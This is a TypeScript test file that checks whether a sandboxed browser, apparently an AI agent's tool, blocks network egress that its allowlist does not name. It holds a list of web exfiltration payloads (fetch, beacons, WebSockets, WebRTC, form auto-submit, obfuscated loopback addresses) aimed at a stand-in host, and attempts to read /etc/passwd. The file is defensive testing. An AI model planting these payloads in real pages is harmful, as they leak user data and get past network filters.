// A page that wants out, in a real Chromium: whatever it tries, nothing but what the allowlist names is
// reached, not even by a connection without a request.
import { createSocket } from 'node:dgram'
import { createServer } from 'node:net'
import type { AddressInfo } from 'node:net'
import { afterEach, describe, expect, it } from 'vitest'
import { httpService } from '../fakes/services/http-service.ts'
import { runApproved, startServices, wholeApp } from '../fakes/services/whole-app.ts'

wholeApp()

const close: (() => void)[] = []
afterEach(() => {
  for (const each of close.splice(0)) each()
})

/** Counts connections and packets; answers nothing. */
async function trap() {
  let reached = 0
  const server = createServer((socket) => {
    reached += 1
    socket.destroy()
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const { port } = server.address() as AddressInfo
  const packets = createSocket('udp4', () => void (reached += 1))
  await new Promise<void>((done) => packets.bind(port, '127.0.0.1', done))
  close.push(
    () => server.close(),
    () => packets.close(),
  )
  return { port, reached: () => reached }
}

/** By name: what is in the page. `AT` is the trap, as a host with its port. */
const attacks: readonly (readonly [string, string])[] = [
  ['a request of a script', `<script>fetch('http://AT/a', {mode: 'no-cors'})</script>`],
  ['a beacon', `<script>navigator.sendBeacon('http://AT/b', 'stolen')</script>`],
  [
    'a picture, a style, a frame',
    `<img src="http://AT/c"><link rel=stylesheet href="http://AT/d"><iframe src="http://AT/e"></iframe>`,
  ],
  [
    'what is fetched ahead',
    `<link rel=prefetch href="http://AT/f"><link rel=preconnect href="http://AT"><link rel=dns-prefetch href="//AT"><link rel=preload as=fetch href="http://AT/g">`,
  ],
  ['a web socket', `<script>new WebSocket('ws://AT/h')</script>`],
  ['a stream of events', `<script>new EventSource('http://AT/i')</script>`],
  [
    'a service worker and a worker',
    `<script>navigator.serviceWorker?.register('/worker.js'); new Worker('/worker.js')</script>`,
  ],
  [
    'another window',
    `<script>window.open('http://AT/j'); window.open('about:blank')?.fetch?.('http://AT/k')</script>`,
  ],
  [
    'a download',
    `<a id=d href="http://AT/l" download>x</a><script>document.getElementById('d').click()</script>`,
  ],
  ['being sent on by its head', `<meta http-equiv=refresh content="0;url=http://AT/m">`],
  [
    'being sent on by a script',
    `<script>setTimeout(() => { location = 'http://AT/n' }, 50)</script>`,
  ],
  [
    'a form that sends itself',
    `<form id=f method=post action="http://AT/o"><input name=a value=b></form><script>document.getElementById('f').submit()</script>`,
  ],
  [
    'a redirect of the same host',
    `<script>fetch('/away').catch(() => {})</script><img src="/away">`,
  ],
  [
    'this machine in other words',
    `<script>for (const host of ['2130706433', '0x7f.1', '127.1', '0', 'localhost', '[::ffff:127.0.0.1]', 'a.localhost']) fetch('http://' + host + ':PORT/p', {mode: 'no-cors'}).catch(() => {})</script>`,
  ],
  [
    'a call by WebRTC',
    `<script>const c = new RTCPeerConnection({iceServers: [{urls: 'stun:AT'}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))</script>`,
  ],
]

describe('a page that tries to reach outside', () => {
  it('reaches nothing that nobody listed, whatever it tries @whole', async () => {
    const { port, reached } = await trap()
    const fill = (text: string): string =>
      text.replaceAll('AT', `127.0.0.1:${port}`).replaceAll('PORT', String(port))
    const site = await httpService(({ path }) => {
      if (path === '/worker.js')
        return {
          headers: { 'content-type': 'text/javascript' },
          body: fill(`fetch('http://AT/w', {mode: 'no-cors'})`),
        }
      if (path === '/away') return { status: 302, headers: { location: fill('http://AT/q') } }
      const attack = attacks[Number(path.slice(1))]
      return attack === undefined
        ? null
        : {
            headers: { 'content-type': 'text/html' },
            body: `<!doctype html><title>Page</title><p>Hello</p>${fill(attack[1])}`,
          }
    })
    await startServices({ more: `allowlist: { hosts: ['${site.hosts[0]}'] }\n` })
    for (const [at, [name]] of attacks.entries()) {
      const url = `${site.url}/${at}`
      const { result } = await runApproved('browser', { action: 'open', url })
      await runApproved('browser', { action: 'wait', ms: 150 })
      expect([name, result.status, reached()]).toEqual([
        name,
        expect.stringMatching(/done|failed/),
        0,
      ])
    }
  }, 600_000)

  it('leads to no file and no page without an address, by a link or by an argument @whole', async () => {
    const site = await httpService(({ path }) => ({
      headers: { 'content-type': 'text/html' },
      body:
        path === '/'
          ? `<title>Page</title><a href="file:///etc/passwd">File</a>
             <a href="data:text/html,<p>from data</p>">Data</a>
             <a href="chrome://version">Own</a><a href="view-source:file:///etc/passwd">Source</a>`
          : '',
    }))
    // The page itself may be acted on without a question: only where it leads is looked at.
    const entry = `{ host: '${site.hosts[0]}', methods: [GET, POST] }`
    await startServices({ more: `allowlist: { hosts: [${entry}] }\n` })
    const page = `${site.url}/`
    for (const element of ['e1', 'e2', 'e3', 'e4']) {
      await runApproved('browser', { action: 'open', url: page })
      await runApproved('browser', { action: 'click', page, element })
      const { result } = await runApproved('browser', { action: 'get', what: 'text' })
      expect([element, /root:|from data|JavaScript/.test(result.text)]).toEqual([element, false])
    }
    for (const url of [
      'file:///etc/passwd',
      'data:text/html,x',
      'chrome://version',
      'about:blank',
    ]) {
      const { result, held } = await runApproved('browser', { action: 'open', url })
      expect([url, result.status, held]).toEqual([url, 'denied', null])
    }
    await runApproved('browser', { action: 'open', url: page })
    await runApproved('browser', {
      action: 'eval',
      page,
      javascript: `fetch('file:///etc/passwd').then((a) => a.text()).catch(() => 'refused')`,
    })
    const { result } = await runApproved('browser', { action: 'snapshot' })
    expect(result.text).not.toContain('root:')
  }, 600_000)

  it('is not opened where it is a local address that nobody listed', async () => {
    const { port, reached } = await trap()
    await startServices()
    for (const host of ['127.0.0.1', 'localhost', '2130706433', '[::1]', '0.0.0.0']) {
      const url = `http://${host}:${port}/`
      const { result } = await runApproved('browser', { action: 'open', url })
      expect([url, result.status, reached()]).toEqual([url, 'denied', 0])
    }
  }, 600_000)
})
